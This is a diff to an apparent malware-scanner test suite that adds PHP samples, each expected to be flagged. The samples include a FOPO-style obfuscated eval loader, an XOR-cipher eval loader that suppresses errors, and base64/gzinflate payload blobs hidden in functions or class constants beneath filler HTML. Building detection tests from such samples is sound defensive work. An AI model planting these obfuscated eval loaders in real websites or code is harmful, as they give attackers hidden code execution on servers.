@@ -3362,6 +3362,790 @@ CASES: list[tuple[str, bytes, bool]] = [
         embedded("<?php\n$r = '_REQUEST';\n$v = $GLOBALS[$r];\neval($v['x']);\n"),
         True,
     ),
+    # d:fopo_full
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            '<?php\n$OO0O0O=urldecode("n1zb%2Fma5%5Cvt0i28-pxuqy%2A6lrkdg9_ehcswo4%2Bf37j");\n$O0OO0O=$OO0O0O{3}.$OO0O0O{6}.$OO0O0O{33}.$OO0O0O{30}.$OO0O0O{22}.$OO0O0O{36}.$OO0O0O{29}.$OO0O0O{26}.$OO0O0O{30}.$OO0O0O{32}.$OO0O0O{35}.$OO0O0O{26}.$OO0O0O{30};\n$OOO000=$OO0O0O{27}.$OO0O0O{2}.$OO0O0O{12}.$OO0O0O{0}.$OO0O0O{38}.$OO0O0O{23}.$OO0O0O{6}.$OO0O0O{10}.$OO0O0O{30};\neval($OOO000($O0OO0O("ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==")));\n'
+        ),
+        True,
+    ),
+    # d:fopo_full
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            '<?php\n$OO0O0O=urldecode("n1zb%2Fma5%5Cvt0i28-pxuqy%2A6lrkdg9_ehcswo4%2Bf37j");\n$O0OO0O=$OO0O0O{3}.$OO0O0O{6}.$OO0O0O{33}.$OO0O0O{30}.$OO0O0O{22}.$OO0O0O{36}.$OO0O0O{29}.$OO0O0O{26}.$OO0O0O{30}.$OO0O0O{32}.$OO0O0O{35}.$OO0O0O{26}.$OO0O0O{30};\n$OOO000=$OO0O0O{27}.$OO0O0O{2}.$OO0O0O{12}.$OO0O0O{0}.$OO0O0O{38}.$OO0O0O{23}.$OO0O0O{6}.$OO0O0O{10}.$OO0O0O{30};\neval($OOO000($O0OO0O("ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==")));\n'
+        ),
+        True,
+    ),
+    # d:fopo_full
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            '<?php\n$OO0O0O=urldecode("n1zb%2Fma5%5Cvt0i28-pxuqy%2A6lrkdg9_ehcswo4%2Bf37j");\n$O0OO0O=$OO0O0O{3}.$OO0O0O{6}.$OO0O0O{33}.$OO0O0O{30}.$OO0O0O{22}.$OO0O0O{36}.$OO0O0O{29}.$OO0O0O{26}.$OO0O0O{30}.$OO0O0O{32}.$OO0O0O{35}.$OO0O0O{26}.$OO0O0O{30};\n$OOO000=$OO0O0O{27}.$OO0O0O{2}.$OO0O0O{12}.$OO0O0O{0}.$OO0O0O{38}.$OO0O0O{23}.$OO0O0O{6}.$OO0O0O{10}.$OO0O0O{30};\neval($OOO000($O0OO0O("ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==")));\n'
+        ),
+        True,
+    ),
+    # d:jiami_like
+    (
+        "SPAMGEAR_LOADER_ShiftCipherEval",
+        plain(
+            "<?php /* PHP Encode by example */error_reporting(0);ini_set('display_errors', 0);\nif(!function_exists('Il1lI')){function Il1lI($a,$b=''){$a=base64_decode($a);$c='';for($i=0;$i<strlen($a);$i++){$c.=chr(ord($a[$i])^7);}return $c;}}\neval(Il1lI('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA=='));\n"
+        ),
+        True,
+    ),
+    # d:jiami_like
+    (
+        "SPAMGEAR_LOADER_ShiftCipherEval",
+        padded(
+            "<?php /* PHP Encode by example */error_reporting(0);ini_set('display_errors', 0);\nif(!function_exists('Il1lI')){function Il1lI($a,$b=''){$a=base64_decode($a);$c='';for($i=0;$i<strlen($a);$i++){$c.=chr(ord($a[$i])^7);}return $c;}}\neval(Il1lI('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA=='));\n"
+        ),
+        True,
+    ),
+    # d:jiami_like
+    (
+        "SPAMGEAR_LOADER_ShiftCipherEval",
+        embedded(
+            "<?php /* PHP Encode by example */error_reporting(0);ini_set('display_errors', 0);\nif(!function_exists('Il1lI')){function Il1lI($a,$b=''){$a=base64_decode($a);$c='';for($i=0;$i<strlen($a);$i++){$c.=chr(ord($a[$i])^7);}return $c;}}\neval(Il1lI('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA=='));\n"
+        ),
+        True,
+    ),
+    # d:blob_in_function
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\nfunction get_data() {\n    return 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==';\n}\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n<?php eval(gzinflate(base64_decode(get_data()))); ?>\n"
+        ),
+        True,
+    ),
+    # d:blob_in_function
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\nfunction get_data() {\n    return 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==';\n}\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n<?php eval(gzinflate(base64_decode(get_data()))); ?>\n"
+        ),
+        True,
+    ),
+    # d:blob_in_function
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\nfunction get_data() {\n    return 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==';\n}\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n<?php eval(gzinflate(base64_decode(get_data()))); ?>\n"
+        ),
+        True,
+    ),
+    # d:blob_class_const
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\nclass Cfg { const D = 'eNptV11r5UYM/StmuA82GIP9OnXpS9k/0LdSih2ybHG7gSQLuZj57z06kmbkmyUm1/aMPkY6OpJvR/fP1+52dM9P3166tx/72/tr363d9tbdPrrbLqtcKt3t3snK0n19eX3enr7J6o3i/qLHIgRzd9u6FBeg9N/n771sh5ahe31+//H6HcqyvILIhJeFRjfZoUpkp3s0irrUnWJ0xRN9mk2ux5+phJDdDaYIAnaYo/tlf/0VPro7rrxKuL9JpBa8mESQtgaYpbgL00euuxQPrxZ7+HYGhRLjO9ymBolhwcMU4p0gIiYGvMfOjJuEbRP0wMIi7zwTuE0SHnNskgVcUwwDnkuInd/BOfMBShBqZmTSWIs/TLEaYeZNGyXsfpSkPMSvPnua74qgGtfSMm43Lqog4yHhj4fLk/mhB8EvXZgNLRmxzQyWxDgTBQueT3hnoqdIPvqXVc2kKuGlHvWAKHbTickVSPYVOhOB3pzDrur9nRmqNiWqO7RL8gjnIZRLghnIFrjBPAzqjabjMAw0cMKjBv+WC8JaozXANDQVMXwwAFnQs0PR6EXrcduZ31p5GduT6kj4c5uTitkmd3wlmGcx/dH18fxFg6N1Ud8lHnsQpzOTr+Ct6NjUStKfEZtytTV0dnJYkRRjs5RKYc5PtUSw48SZB11DmEK4COUUmSeRKYoo3WXZN7tpFpLUEGJ6VsEHSI7Xw4pXkxbOqX63ms+hGANlElGNMUf41YhgFk0t7vREdML9QjoS5ijy6BInk6CeEFZFU1QtbmK0qTwZBzpLqK6ib